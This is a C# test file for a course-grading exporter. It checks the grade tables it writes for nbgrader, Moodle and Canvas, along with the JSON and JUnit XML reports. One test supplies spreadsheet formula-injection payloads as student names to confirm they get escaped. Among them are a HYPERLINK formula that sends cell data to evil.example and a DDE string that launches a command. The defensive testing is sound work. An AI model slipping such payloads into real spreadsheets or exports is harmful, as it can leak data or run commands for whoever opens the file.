using System.Globalization;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using CsCheck;
using CsvHelper;

namespace Workbook.Grading.Tests;

/// <summary>The tables, the JSON and the XML: what they say, and what nothing in a name or an answer can make them say.</summary>
public sealed class ReportTests : IDisposable
{
    readonly GradingFolder folder = new();

    public void Dispose() => folder.Dispose();

    List<Dictionary<string, string>> Csv(string name)
    {
        using var csv = CsvReader.FromFile(folder.PathOf($"out/{name}"));
        csv.ReadHeader();
        var header = csv.Headers.ToArray();
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read()) rows.Add(header.Select((column, i) => (column, csv.GetString(i))).ToDictionary());
        return rows;
    }

    async Task GradeAsync()
    {
        folder.Put("class/Zoë O'Neil_4711_assignsubmission_file_/03.ipynb", MadeUpNotebook.Right().ToOctets())
            .Put("class/leeann_LATE_12345_67890_03.ipynb", MadeUpNotebook.Right().Answer("uu-line", "wrong-no-length").ToOctets())
            .Put("class/cy/notes.pdf", "x").Put("class/di/broken.ipynb", "{")
            .Put("roster.csv", "student,first_name,last_name,email\n4711,Zoë,O'Neil,zoe@shore.example\n77,Bea,\"Absent, Jr\",bea@shore.example\n");
        await folder.GradeAsync(new ScriptedJudge(), folder.Options with { Roster = folder.PathOf("roster.csv"), Deadline = new(new(2026, 11, 1, 23, 59, 59), 10) });
    }

    [Fact]
    public async Task The_register_has_nbgraders_columns_and_a_row_for_everybody()
    {
        await GradeAsync();

        var rows = Csv("grades.csv");

        Assert.Equal(["77", "12345", "4711"], rows.Select(row => row["student_id"]));
        var late = rows[1];
        Assert.Equal(("03-uuencode", "11", "1.1", "9.9", "13", "late", "1"), (late["assignment"], late["raw_score"], late["late_submission_penalty"], late["score"], late["max_score"], late["uu-line"] is "1" ? "late" : "", late["uu-length"]));
        Assert.Equal(("missing", "0", "Absent, Jr", "Bea"), (rows[0]["status"], rows[0]["score"], rows[0]["last_name"], rows[0]["first_name"]));
        Assert.All(File.ReadAllLines(folder.PathOf("out/grades.csv")), line => Assert.Matches("^\"([^\"]|\"\")*\"(,\"([^\"]|\"\")*\")*$", line));
    }

    [Fact]
    public async Task Moodle_and_canvas_find_their_columns()
    {
        await GradeAsync();

        Assert.Equal(("13", "13", "zoe@shore.example"), Csv("moodle.csv").Where(row => row["Identifier"] is "Participant 4711").Select(row => (row["Grade"], row["Maximum Grade"], row["Email address"])).Single());
        var canvas = Csv("canvas.csv");
        Assert.Equal(("    Points Possible", "13"), (canvas[0]["Student"], canvas[0]["03-uuencode"]));
        Assert.Equal("9.9", canvas.Single(row => row["ID"] is "12345")["03-uuencode"]);
        Assert.Equal([("cy/notes.pdf", "no"), ("di/broken.ipynb", "yes")], Csv("not-marked.csv").Select(row => (row["file"], row["look"])));
    }

    [Fact]
    public async Task The_json_of_a_work_says_everything_and_its_version()
    {
        await GradeAsync();

        var json = JsonNode.Parse(folder.Results()["submissions/12345.03-uuencode.json"])!;

        Assert.Equal((1, "marked", "Canvas", 9.9m, 11m, 13), ((int)json["version"]!, (string)json["status"]!, (string)json["platform"]!, (decimal)json["points"]!, (decimal)json["raw"]!, (int)json["outOf"]!));
        Assert.Equal(["uu-quad", "uu-length", "uu-line", "uu-decode-line", "uu-rescue"], json["exercises"]!.AsArray().Select(exercise => (string)exercise!["id"]!));
        Assert.Equal("Secret second test of uu-line", (string)json["exercises"]![2]!["tests"]![1]!["name"]!);
        Assert.Equal("failed", (string)json["exercises"]![2]!["tests"]![1]!["outcome"]!);
        Assert.Equal(5, json["answers"]!.AsObject().Count);
    }

    [Fact]
    public async Task The_xml_has_a_suite_for_each_work_and_a_case_for_each_test()
    {
        await GradeAsync();

        var suites = XDocument.Parse(folder.Results()["junit.xml"]).Root!;

        Assert.Equal(("20", "1", "0"), (suites.Attribute("tests")!.Value, suites.Attribute("failures")!.Value, suites.Attribute("errors")!.Value));
        Assert.Equal("Secret second test of uu-line", Assert.Single(suites.Descendants("failure")).Parent!.Attribute("name")!.Value);
    }

    /// <summary>What a spreadsheet does with a table: a cell that begins so is computed.</summary>
    static bool IsFormula(string cell) => cell.TrimStart() is ['=' or '+' or '-' or '@' or '＝' or '＋' or '－' or '＠', ..] or ['\t' or '\r', ..];

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData(" =1+1")]
    [InlineData("＝1+1")]
    public async Task No_name_is_a_formula_in_any_table(string name)
    {
        var plain = new StringWriter();
        using (var csv = CsvWriter.Create(plain)) csv.WriteRecord(name, "x");
        using (var csv = CsvReader.FromText(plain.ToString(), new() { HasHeader = false })) Assert.True(csv.Read() && IsFormula(csv.GetString(0)), "The attack does not work even without the wall.");

        var file = $"class/{name.Replace("/", "", StringComparison.Ordinal)}_1_assignsubmission_file_";
        folder.Put($"{file}/03.ipynb", MadeUpNotebook.Right().ToOctets()).Put("class/=1+1.pdf", "x").Put("class/@x/broken.ipynb", "{")
            .Put("roster.csv", $"student,name\n1,\"{name.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\n{(name.Contains(' ', StringComparison.Ordinal) ? "2" : name.Split('(')[0])},x\n")
            .Put("out/manual.csv", "student,exercise,points,comment\n1,,,=1+1\n");
        await folder.GradeAsync(new ScriptedJudge(), folder.Options with { Roster = folder.PathOf("roster.csv") });

        foreach (var table in new[] { "grades.csv", "moodle.csv", "canvas.csv", "not-marked.csv" })
        {
            var cells = Csv(table).SelectMany(row => row.Values).ToList();
            Assert.DoesNotContain(cells, IsFormula);
            Assert.Contains(cells, cell => cell.StartsWith('\''));
        }
    }

    [Fact]
    public void Whatever_stands_in_a_cell_is_read_back_and_is_no_formula()
    {
        Gen.String.Array[1, 4].Array[1, 5].Where(rows => rows.DistinctBy(row => row.Length).Count() is 1).Sample(rows =>
        {
            using var csv = CsvReader.Create(SafeCsv.Write(rows), new() { HasHeader = false, SkipEmptyLines = false, Separator = ',' });
            foreach (var row in rows)
            {
                Assert.True(csv.Read());
                for (var i = 0; i < row.Length; i++)
                {
                    var cell = csv.GetString(i);
                    Assert.False(IsFormula(cell) && cell.TrimStart().Length > 0 && !char.IsControl(cell[0]));
                    Assert.Contains(Whole(row[i]), new[] { cell, cell.TrimStart('\'') , cell.Length > 0 ? cell[1..] : cell });
                }
            }
        }, iter: 300);

        // Half a surrogate pair is no text, and comes out as U+FFFD.
        static string Whole(string text) => System.Text.Encoding.UTF8.GetString(System.Text.Encoding.UTF8.GetBytes(text));
    }

    [Fact]
    public async Task Numbers_are_the_same_in_every_country()
    {
        var before = CultureInfo.CurrentCulture;
        try
        {
            await GradeAsync();
            var there = folder.Results();
            CultureInfo.CurrentCulture = new("de-DE");
            Directory.Delete(folder.PathOf("out"), recursive: true);
            await GradeAsync();
            Assert.Equal(there, folder.Results());
        }
        finally
        {
            CultureInfo.CurrentCulture = before;
        }
    }
}
